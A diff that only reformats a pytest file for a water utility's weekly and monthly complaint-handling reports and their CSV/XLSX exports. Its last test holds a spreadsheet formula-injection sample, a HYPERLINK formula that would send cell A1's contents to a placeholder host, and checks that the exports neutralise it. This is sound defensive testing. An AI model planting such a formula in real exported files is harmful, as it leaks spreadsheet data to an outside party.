@@ -29,8 +29,13 @@ MONTH = month_period_of(date(2027, 1, 1))
 
 
 @pytest.fixture
-def world(sessions: sessionmaker[Session], runtime: Runtime, clock: SettableClock, deployed: ProcessDefinition,
-          deploy_process: Callable[[str], ProcessDefinition]) -> World:
+def world(
+    sessions: sessionmaker[Session],
+    runtime: Runtime,
+    clock: SettableClock,
+    deployed: ProcessDefinition,
+    deploy_process: Callable[[str], ProcessDefinition],
+) -> World:
     return make_world(sessions, runtime, clock, deploy_process)
 
 
@@ -46,26 +51,49 @@ def test_weekly_report_per_department_with_reasons_m2(world: World) -> None:
     its reason: B waits for its reply long past the same-day deadline; C was sent back twice."""
     build_week(world)
     content = weekly(world).content
-    assert content["period"] == {"kind": "week", "first": "2026-11-23", "last": "2026-11-29", "label": "2026-W48",
-                                 "days": 7, "working_days": 5}
+    assert content["period"] == {
+        "kind": "week",
+        "first": "2026-11-23",
+        "last": "2026-11-29",
+        "label": "2026-W48",
+        "days": 7,
+        "working_days": 5,
+    }
     assert content["as_of"] == "2026-11-29T23:00:00+00:00"  # Monday 30 November 07:00 in Shanghai
-    rows = {row["code"]: (row["received"], row["replied"], row["closed"], row["not_replied"], row["not_closed"])
-            for row in content["departments"]}
-    assert rows == {"customer_service": (0, 0, 0, 0, 0), "operations": (1, 1, 1, 0, 0), "repair": (2, 2, 1, 0, 1),
-                    "technical": (0, 0, 0, 0, 0), "billing": (3, 2, 2, 1, 1)}
+    rows = {
+        row["code"]: (row["received"], row["replied"], row["closed"], row["not_replied"], row["not_closed"])
+        for row in content["departments"]
+    }
+    assert rows == {
+        "customer_service": (0, 0, 0, 0, 0),
+        "operations": (1, 1, 1, 0, 0),
+        "repair": (2, 2, 1, 0, 1),
+        "technical": (0, 0, 0, 0, 0),
+        "billing": (3, 2, 2, 1, 1),
+    }
     total = content["total"]
-    assert (total["received"], total["replied"], total["closed"], total["not_replied"], total["not_closed"]) == (
-        6, 5, 4, 1, 2)
+    assert (
+        total["received"],
+        total["replied"],
+        total["closed"],
+        total["not_replied"],
+        total["not_closed"],
+    ) == (6, 5, 4, 1, 2)
     assert total["rates"]["satisfaction"] == {"part": 2, "whole": 4, "rate": 0.5}
     open_cases = {row["case_number"]: row for row in content["open_cases"]}
     assert list(open_cases) == [world.cases["B"], world.cases["C"]]
     b, c = open_cases[world.cases["B"]], open_cases[world.cases["C"]]
     assert (b["department"], b["replied"], b["overdue"]) == ("billing", False, True)
     assert b["reason"] == "等待「调查处理并答复」(收费),自11-23 09:05,时限11-23 23:59,已超时151.0小时"
-    assert b["reason_en"] == "waiting at “Investigate, handle and reply” (Billing) since 11-23 09:05, due 11-23 23:59, overdue by 151.0 h"
+    assert (
+        b["reason_en"]
+        == "waiting at “Investigate, handle and reply” (Billing) since 11-23 09:05, due 11-23 23:59, overdue by 151.0 h"
+    )
     assert (c["department"], c["replied"], c["overdue"]) == ("repair", True, True)
-    assert c["reason"] == ("等待「调查处理并答复」(维修),自11-24 11:00,时限11-24 23:59,已超时127.0小时;"
-                           "客户不满意退回2次;已记录:答复超时已督办")
+    assert c["reason"] == (
+        "等待「调查处理并答复」(维修),自11-24 11:00,时限11-24 23:59,已超时127.0小时;"
+        "客户不满意退回2次;已记录:答复超时已督办"
+    )
 
 
 def test_one_report_per_period_made_again_is_the_same_report(world: World) -> None:
@@ -108,7 +136,10 @@ def test_due_reports_are_made_once(world: World) -> None:
     build_week(world)
     with world.sessions.begin() as session:
         made = generate_due_reports(session, world.runtime)
-    assert sorted((r.kind, r.period_start) for r in made) == [("monthly", "2026-10-26"), ("weekly", "2026-11-23")]
+    assert sorted((r.kind, r.period_start) for r in made) == [
+        ("monthly", "2026-10-26"),
+        ("weekly", "2026-11-23"),
+    ]
     with world.sessions.begin() as session:
         assert generate_due_reports(session, world.runtime) == []
 
@@ -125,20 +156,33 @@ def test_monthly_report_by_category_across_the_year_end_m3(world: World) -> None
     build_year_end_month(world)
     content = monthly(world).content
     assert (content["period"]["first"], content["period"]["last"], content["period"]["label"]) == (
-        "2026-12-26", "2027-01-25", "2027-01")
-    assert (content["total"]["received"], content["total"]["replied"], content["total"]["closed"]) == (4, 3, 3)
-    assert {row["code"]: (row["received"], row["replied"], row["closed"]) for row in content["processes"]} == {
-        "complaint": (1, 0, 0), "consultation": (3, 3, 3)}
+        "2026-12-26",
+        "2027-01-25",
+        "2027-01",
+    )
+    assert (content["total"]["received"], content["total"]["replied"], content["total"]["closed"]) == (
+        4,
+        3,
+        3,
+    )
+    assert {
+        row["code"]: (row["received"], row["replied"], row["closed"]) for row in content["processes"]
+    } == {"complaint": (1, 0, 0), "consultation": (3, 3, 3)}
     categories = {row["code"]: row for row in content["categories"]}
     meter = categories["meter_fault"]
     assert (meter["received"], meter["replied"], meter["closed"], meter["complaints"]) == (3, 2, 2, 1)
-    children = {(child["code"], bool(child.get("unspecified"))): child["received"] for child in meter["children"]}
+    children = {
+        (child["code"], bool(child.get("unspecified"))): child["received"] for child in meter["children"]
+    }
     assert children[("meter_no_display", False)] == 1 and children[("meter_frozen", False)] == 1
     assert children[("meter_fault", True)] == 1  # filed under the parent itself
     assert sum(children.values()) == 3
     assert categories["leak"]["received"] == 1 and categories["billing"]["received"] == 0
-    assert {row["code"]: (row["received"], row["replied"]) for row in content["complaints_by_department"]
-            if row["received"]} == {"repair": (1, 0)}
+    assert {
+        row["code"]: (row["received"], row["replied"])
+        for row in content["complaints_by_department"]
+        if row["received"]
+    } == {"repair": (1, 0)}
     assert [c["case_number"] for c in content["candidates"]] == [world.cases["M2"]]
 
 
@@ -149,21 +193,47 @@ def test_notable_cases_are_checked_and_kept_with_the_report_m3(world: World) -> 
     now = world.clock.now()
     with world.sessions.begin() as session:
         report = session.get(Report, report_id)
-        problems = set_notable_cases(session, report, [(world.cases["M0"], ""), ("TS-00000000-0000", "")],
-                                     "sup1", now, SHANGHAI)
+        problems = set_notable_cases(
+            session, report, [(world.cases["M0"], ""), ("TS-00000000-0000", "")], "sup1", now, SHANGHAI
+        )
         assert [(p.case_number, p.reason) for p in problems] == [
-            (world.cases["M0"], "outside_period"), ("TS-00000000-0000", "unknown")]
-        assert [p.reason for p in set_notable_cases(session, report, [(world.cases["M1"], "")] * 6, "sup1", now,
-                                                    SHANGHAI)] == ["too_many"]
+            (world.cases["M0"], "outside_period"),
+            ("TS-00000000-0000", "unknown"),
+        ]
+        assert [
+            p.reason
+            for p in set_notable_cases(session, report, [(world.cases["M1"], "")] * 6, "sup1", now, SHANGHAI)
+        ] == ["too_many"]
         assert report.notable_cases is None
-        assert set_notable_cases(session, report, [(world.cases["M2"], "冬季水表冻裂,需提前宣传防冻"), ("", "")],
-                                 "sup1", now, SHANGHAI) == []
+        assert (
+            set_notable_cases(
+                session,
+                report,
+                [(world.cases["M2"], "冬季水表冻裂,需提前宣传防冻"), ("", "")],
+                "sup1",
+                now,
+                SHANGHAI,
+            )
+            == []
+        )
     with world.sessions() as session:
         report = session.get(Report, report_id)
         (entry,) = report.notable_cases["cases"]
-        assert (entry["case_number"], entry["note"], entry["category"], entry["department"], entry["status"],
-                entry["summary"]) == (world.cases["M2"], "冬季水表冻裂,需提前宣传防冻", "meter_frozen", "repair",
-                                      "running", "IC卡水表冻裂,家中无水。")
+        assert (
+            entry["case_number"],
+            entry["note"],
+            entry["category"],
+            entry["department"],
+            entry["status"],
+            entry["summary"],
+        ) == (
+            world.cases["M2"],
+            "冬季水表冻裂,需提前宣传防冻",
+            "meter_frozen",
+            "repair",
+            "running",
+            "IC卡水表冻裂,家中无水。",
+        )
         assert (report.notable_by, report.notable_at) == ("sup1", now)
 
 
@@ -174,20 +244,30 @@ def test_csv_and_xlsx_carry_the_same_figures(world: World) -> None:
     tables = report_tables("weekly", report.content, None, "zh", zone=SHANGHAI)
     rows = list(csv.reader(io.StringIO(to_csv(tables).decode("utf-8-sig"))))
     start = rows.index(["# 各部门受理情况"])
-    header, body = rows[start + 1], rows[start + 2:start + 8]
+    header, body = rows[start + 1], rows[start + 2 : start + 8]
     assert header[:6] == ["部门", "受理", "已答复", "已办结", "未答复", "未办结"]
     assert body[1][:6] == ["生产运行", "1", "1", "1", "0", "0"]
     assert body[-1] == ["合计", "6", "5", "4", "1", "2", "50.0%", "66.7%", "66.7%", "66.7%"]
     assert body[0][6:] == ["—", "—", "—", "—"]  # customer service: nothing to divide by
     open_start = rows.index(["# 未答复或未办结工单"])
-    assert [r[0] for r in rows[open_start + 2:open_start + 4]] == [world.cases["B"], world.cases["C"]]
+    assert [r[0] for r in rows[open_start + 2 : open_start + 4]] == [world.cases["B"], world.cases["C"]]
 
     workbook = load_workbook(io.BytesIO(to_xlsx(tables)))
     assert workbook.sheetnames == ["概况", "各部门受理情况", "未答复或未办结工单"]
     sheet = workbook["各部门受理情况"]
     values = [[cell.value for cell in row] for row in sheet.iter_rows()]
-    assert values[-1] == ["合计", 6, 5, 4, 1, 2, 0.5, pytest.approx(6 / 9, abs=1e-4), pytest.approx(4 / 6, abs=1e-4),
-                          pytest.approx(2 / 3, abs=1e-4)]
+    assert values[-1] == [
+        "合计",
+        6,
+        5,
+        4,
+        1,
+        2,
+        0.5,
+        pytest.approx(6 / 9, abs=1e-4),
+        pytest.approx(4 / 6, abs=1e-4),
+        pytest.approx(2 / 3, abs=1e-4),
+    ]
     assert sheet.cell(row=sheet.max_row, column=7).number_format == "0.0%"
     english = report_tables("weekly", report.content, None, "en", zone=SHANGHAI)
     assert english[1].headers[:3] == ["Department", "Received", "Replied"]
@@ -199,8 +279,12 @@ def test_typed_text_stays_text_in_the_exports_m3() -> None:
     from engine.supervision.reports.export import Table
 
     typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
-    table = Table("notable", "Notable cases", ["case", "summary", "note", "count"],
-                  rows=[["TS-1", typed, "+1 by phone", -3], ["TS-2", "-", "@all", 2]])
+    table = Table(
+        "notable",
+        "Notable cases",
+        ["case", "summary", "note", "count"],
+        rows=[["TS-1", typed, "+1 by phone", -3], ["TS-2", "-", "@all", 2]],
+    )
     rows = list(csv.reader(io.StringIO(to_csv([table]).decode("utf-8-sig"))))
     assert rows[2] == ["TS-1", "'" + typed, "'+1 by phone", "-3"]
     assert rows[3] == ["TS-2", "'-", "'@all", "2"]
